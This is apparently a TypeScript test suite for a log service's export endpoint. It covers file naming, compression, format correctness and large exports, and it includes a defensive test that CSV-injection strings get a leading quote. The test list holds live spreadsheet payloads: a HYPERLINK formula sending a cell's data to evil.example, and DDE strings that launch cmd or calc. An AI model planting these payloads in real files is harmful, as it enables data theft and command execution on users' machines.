/** The export as files: complete, correct, and without cells that a spreadsheet runs. */
import { describe, expect, it } from 'vitest';
import type { Entry } from '../../src/log/schema.ts';
import { startService } from '../support/harness.ts';
import { notOn } from '../targets/not-on.ts';
import { reasons } from '../targets/reasons.ts';
import { exported, type Format, formatNames, idsIn, readCsv, readLines } from './files.ts';

const base = { event_type: 'CREATE', entity_type: 'order' };

const inOrderOfTime = (a: Entry, b: Entry) =>
  a.timestamp === b.timestamp ? a.id - b.id : a.timestamp < b.timestamp ? -1 : 1;

/** Texts that a spreadsheet takes for a formula (OWASP, CSV injection), also after characters that it skips. */
const formulas = [
  '=1+1',
  '=1+1\nfoo',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '+1+1',
  '-1+2',
  '-2+3+cmd|calc!A0',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1',
  '\u3000=1',
  ' \ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1',
  '\t1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\v=1',
  '\u2028=1',
  '|cmd',
  '%0A=1',
  '=',
  '=";=1',
];

/** Texts that look similar but are not formulas: they must not change. */
const harmless = [
  'a=b',
  '1-1',
  '50 %',
  "it's",
  'a@b.example',
  "'",
  '"',
  '""',
  ',',
  ';',
  'a\nb',
  'a\r\nb',
  ' a ',
  '中🧾',
  '<b>',
  '\\',
  '\u0001',
  '\u001e',
  'a\u001fb',
];

const service = await startService();
const kept = await service.write([
  {
    ...base,
    entity_id: 'o-1',
    user_id: 'ana',
    description: 'He said "yes", twice;\r\nthen left\n',
    metadata: { 'a "key"': [1, 2.5, null, true, 'x,\ny'], __proto__x: { deep: {} } },
    ip_address: '2001:db8::1',
    user_agent: 'Mozilla/5.0 (X11; Linux) "quoted"',
    timestamp: '2024-02-29T12:00:00.123Z',
    service: 'till',
    trace_id: 't-1',
    session_id: 's-1',
    event_uid: 'uid-1',
    span_id: 'span,"1"',
    parent_span_id: '007',
    caused_by: 'o "1"',
  },
  { ...base, timestamp: '2024-02-29T12:00:00.123Z' },
  { ...base, timestamp: '2023-01-01', metadata: {} },
]);
const small = 'start_date=2023-01-01&end_date=2024-12-31&';
const ordered = kept.toSorted(inOrderOfTime);

describe('the file', () => {
  it.each(formatNames)('%s is an attachment with a dated name and its type', async (format) => {
    const before = new Date().toISOString().slice(0, 10);
    const { headers } = await service.request(`/api/logs/export?format=${format}&limit=`);
    const disposition = headers.get('content-disposition') ?? '';
    const extension = format === 'spreadsheet' ? 'spreadsheet\\.csv' : format;
    expect(disposition).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${extension}"$`));
    expect([before, new Date().toISOString().slice(0, 10)]).toContain(/\d{4}-\d\d-\d\d/.exec(disposition)?.[0]);
    const types = {
      csv: 'text/csv',
      spreadsheet: 'text/csv',
      json: 'application/json',
      ndjson: 'application/x-ndjson',
    };
    expect(headers.get('content-type')).toContain(types[format]);
    expect(headers.get('content-type')).toContain('utf-8');
  });

  it('has a name with the log, the time range, a hash of the filter and the last id', async () => {
    const nameOf = async (query: string) =>
      (await service.request(`/api/logs/export?${query}`)).headers.get('content-disposition') ?? '';
    const [one, same, other] = await Promise.all(
      [`${small}user_id=a&user_id=b`, `user_id=b&user_id=a&${small}`, `${small}user_id=c`].map(nameOf),
    );
    expect(one).toMatch(/"edgetrail-[0-9a-f]{8}-[\d-]{10}-from-2023-01-01-to-2024-12-31-[0-9a-f]{8}-upto-\d+\.csv"$/);
    expect([one === same, one === other]).toEqual([true, false]);
    expect(await nameOf('')).toMatch(/"edgetrail-[0-9a-f]{8}-[\d-]{10}-upto-\d+\.csv"$/);
  });

  it('is CSV by default', async () => {
    expect(await exported(service, small)).toBe(await exported(service, `${small}format=csv`));
  });

  it('JSON and NDJSON contain the entries as in the API, in order of time', async () => {
    expect(JSON.parse(await exported(service, `${small}format=json`))).toEqual(ordered);
    expect(readLines(await exported(service, `${small}format=ndjson`))).toEqual(ordered);
  });

  it('CSV contains every field of every entry: metadata as JSON text, null as an empty cell', async () => {
    const text = await exported(service, `${small}format=csv`);
    const { rows, columns } = readCsv(text);
    expect(columns.toSorted()).toEqual([...Object.keys(kept[0] ?? {}), 'unreadable'].toSorted());
    expect(columns).toEqual(expect.arrayContaining(['metadata', 'created_at']));
    expect(rows).toHaveLength(ordered.length);
    for (const [i, row] of rows.entries()) {
      const { metadata, ...entry } = ordered[i] ?? kept[0] ?? ({} as Entry);
      for (const [name, value] of Object.entries(entry))
        expect(row[name], name).toBe(value === null ? '' : String(value));
      expect(row.metadata === '' ? null : JSON.parse(row.metadata ?? '')).toEqual(metadata);
    }
    // RFC 4180: CRLF ends every record, the last one too.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.slice(0, text.indexOf('\r\n'))).toBe(columns.join(','));
  });

  it.each([
    ['csv', /^id,timestamp,[\w,]+\r\n$/],
    ['spreadsheet', /^"=""id""","=""timestamp""",[\w,"=]+\r\n$/],
    ['json', /^\[\s*\]\s*$/],
    ['ndjson', /^$/],
  ])('%s without rows is a valid file', async (format, text) => {
    expect(await exported(service, `entity_id=nobody&format=${format}`)).toMatch(text);
  });

  it('a HEAD request gets the headers without rows', async () => {
    const answer = await service.request('/api/logs/export', { method: 'HEAD' });
    expect(answer.status).toBe(200);
    expect(await answer.text()).toBe('');
  });
});

notOn(reasons.compressed).describe('the compressed file', () => {
  const ask = (accepted: string, method = 'GET') =>
    service.request(`/api/logs/export?${small}`, { method, headers: { 'accept-encoding': accepted } });

  it('is sent to a client that accepts gzip, with the same content', async () => {
    const [compressed, plain] = await Promise.all(['gzip', 'identity'].map((accepted) => ask(accepted)));
    expect(compressed?.headers.get('content-encoding')).toBe('gzip');
    expect(plain?.headers.get('content-encoding')).toBeNull();
    for (const answer of [compressed, plain]) expect(answer?.headers.get('vary')).toMatch(/Accept-Encoding/i);
    expect(await compressed?.text()).toBe(await plain?.text());
  });

  it('is announced in the response to a HEAD request', async () => {
    expect((await ask('gzip', 'HEAD')).headers.get('content-encoding')).toBe('gzip');
  });

  it.each(['br', 'gzip;q=0', 'identity, gzip;q=0.5'])(
    'is not sent to a client with Accept-Encoding: %s',
    async (accepted) => {
      expect((await ask(accepted)).headers.get('content-encoding')).toBeNull();
    },
  );
});

describe('a cell that a spreadsheet would run', async () => {
  const cells = ['event_type', 'entity_id', 'description', 'user_agent'] as const;
  const texts = [...formulas, ...harmless];
  await service.write(
    texts.map((text, i) => ({
      event_type: text,
      entity_type: 'order',
      entity_id: text,
      description: text,
      user_agent: text,
      user_id: `cell ${i}`,
    })),
  );
  const { rows } = readCsv(await exported(service, 'format=csv'));
  const rowOf = (i: number) => rows.find((row) => row.user_id === `cell ${i}`);

  it.each(formulas.map((text, i) => ({ text, i })))('$text gets a leading quote', ({ text, i }) => {
    for (const cell of cells) expect(rowOf(i)?.[cell], cell).toBe(`'${text}`);
  });

  it.each(harmless.map((text, i) => ({ text, i: formulas.length + i })))('$text is unchanged', ({ text, i }) => {
    for (const cell of cells) expect(rowOf(i)?.[cell], cell).toBe(text);
  });

  it('is unchanged in NDJSON, which spreadsheets do not run', async () => {
    const entries = readLines(await exported(service, 'format=ndjson')).filter(({ user_id }) =>
      user_id?.startsWith('cell '),
    );
    expect(entries.map(({ description }) => description).toSorted()).toEqual(texts.toSorted());
  });
});

// More than 10,000, where a limit of the database or the API would be likely.
const rows = 11_000;
describe(`${rows} rows`, async () => {
  const start = Date.UTC(2020, 0, 1);
  for (let from = 0; from < rows; from += 1_000)
    await service.write(
      // 23 different times in mixed order: every page ends between rows of the same millisecond.
      Array.from({ length: 1_000 }, (_, i) => ({
        ...base,
        entity_type: 'many',
        entity_id: from + i,
        timestamp: new Date(start + (((from + i) * 7_919) % 23) * 1_000).toISOString(),
      })),
    );
  const many = (text: Format) => `entity_type=many&format=${text}`;

  it.each(formatNames)('are exported as %s, each once', async (format) => {
    const ids = idsIn[format](await exported(service, many(format)));
    expect(ids).toHaveLength(rows);
    expect(new Set(ids).size).toBe(rows);
  });

  it('are in order of time', async () => {
    const entries = readLines(await exported(service, many('ndjson')));
    expect(entries.toSorted(inOrderOfTime).map(({ id }) => id)).toEqual(entries.map(({ id }) => id));
  });

  it('are those that existed at the start of the export, also when others are written during it', async () => {
    const answer = await service.request(`/api/logs/export?${many('ndjson')}`);
    const reader = answer.body?.pipeThrough(new TextDecoderStream()).getReader();
    if (!reader) throw new Error('no body');
    let text = (await reader.read()).value ?? '';
    // Later than every exported row: the export has not reached this time yet.
    await service.write(
      Array(500).fill({ ...base, entity_type: 'many', timestamp: '2020-06-01', description: 'late' }),
    );
    for (let { done, value } = await reader.read(); !done; { done, value } = await reader.read()) text += value;
    const entries = readLines(text);
    expect(entries).toHaveLength(rows);
    expect(entries.filter(({ description }) => description === 'late')).toEqual([]);
  });
});
